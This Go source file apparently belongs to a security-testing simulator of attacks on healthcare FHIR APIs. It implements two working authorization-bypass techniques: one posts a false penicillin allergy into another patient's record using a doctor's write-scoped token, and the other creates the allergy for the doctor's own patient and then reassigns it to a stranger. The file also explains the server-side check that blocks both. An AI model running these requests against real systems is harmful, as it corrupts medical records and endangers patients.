package attacker

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

const beyondWriting = "FAPI 2.0 says who holds a token, not into whose record it may write: \"sufficient authorization\" (SP 5.3.4-4) is for the " +
	"API to define. An API that asks whose record it is, of what stands there and of what is put there, stops this."

var _ = register("F-08/create", Technique{
	Variant: "create",
	Title:   "An allergy that is not, in a stranger's record",
	Story: "The thief is a doctor whose app may write allergies. He writes one into the record of a patient who is not his: she will be " +
		"denied the medicine that helps.",
	Reads:  []string{"OWASP API1:2023", "SMART App Launch 2, scopes"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondWriting,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := writersToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.write(ctx, http.MethodPost, g.Target().FHIRBase+"/AllergyIntolerance", allergy(g, "", stranger(g)), t)
		return err
	},
})

var _ = register("F-08", Technique{
	Variant: "move",
	Title:   "A record is written for one's own patient and moved to another's",
	Story: "The thief is a doctor whose app may write allergies. He writes one into the record of a patient of his own, as he may, and then " +
		"changes whose it is. An API that looks only at the record as it was sees nothing wrong.",
	Reads:  []string{"OWASP API3:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondWriting,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := writersToken(ctx, g)
		if err != nil {
			return err
		}
		all := g.Target().FHIRBase + "/AllergyIntolerance"
		ans, err := a.write(ctx, http.MethodPost, all, allergy(g, "", g.Target().OwnPatient), t)
		if err != nil {
			return err
		}
		if !ans.ok() {
			return ErrStopped
		}
		var mine struct {
			ID string `json:"id"`
		}
		if err := json.Unmarshal(ans.body, &mine); err != nil {
			return fmt.Errorf("expected the allergy, got %q: %w", ans.body, err)
		}
		_, err = a.write(ctx, http.MethodPut, all+"/"+mine.ID, allergy(g, mine.ID, stranger(g)), t)
		return err
	},
})

// writersToken is the thief's own, for writing.
func writersToken(ctx context.Context, g Ground) (*app, fapi.TokenResponse, error) {
	a, err := ownApp(ctx, g)
	if err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	t, err := a.signIn(ctx, "openid user/AllergyIntolerance.cu", g.Target().FHIRBase)
	return a, t, err
}

// allergy is a record that bears the thief's mark.
func allergy(g Ground, id, patient string) []byte {
	type reference struct {
		Reference string `json:"reference"`
	}
	type text struct {
		Text string `json:"text"`
	}
	b, err := json.Marshal(struct {
		ResourceType string    `json:"resourceType"`
		ID           string    `json:"id,omitempty"`
		Code         text      `json:"code"`
		Patient      reference `json:"patient"`
	}{"AllergyIntolerance", id, text{"Penicillin (" + g.Target().Mark + ")"}, reference{"Patient/" + patient}})
	if err != nil {
		panic("attacker: " + err.Error()) // strings always marshal
	}
	return b
}

// write sends a resource to the API with a token, under the scheme the token's type calls for.
func (a *app) write(ctx context.Context, method, rawURL string, resource []byte, t fapi.TokenResponse) (answer, error) {
	return a.withNonce(rawURL, func() (*http.Request, error) { return a.writing(ctx, method, rawURL, resource, t) })
}

// patch sends a JSON Patch of a record with a token.
func (a *app) patch(ctx context.Context, rawURL string, patch []byte, t fapi.TokenResponse) (answer, error) {
	return a.withNonce(rawURL, func() (*http.Request, error) {
		r, err := a.writing(ctx, http.MethodPatch, rawURL, patch, t)
		if err == nil {
			r.Header.Set("Content-Type", "application/json-patch+json")
		}
		return r, err
	})
}

// writing is the request of a write, with the nonce its server last asked for.
func (a *app) writing(ctx context.Context, method, rawURL string, resource []byte, t fapi.TokenResponse) (*http.Request, error) {
	r := request(ctx, method, rawURL, bytes.Clone(resource))
	if resource != nil {
		r.Header.Set("Content-Type", "application/fhir+json")
	}
	if t.TokenType == "Bearer" {
		return withToken(r, "Bearer", t.AccessToken, ""), nil
	}
	proof, err := a.proof(method, rawURL, t.AccessToken).Sign(a.key)
	return withToken(r, "DPoP", t.AccessToken, proof), err
}
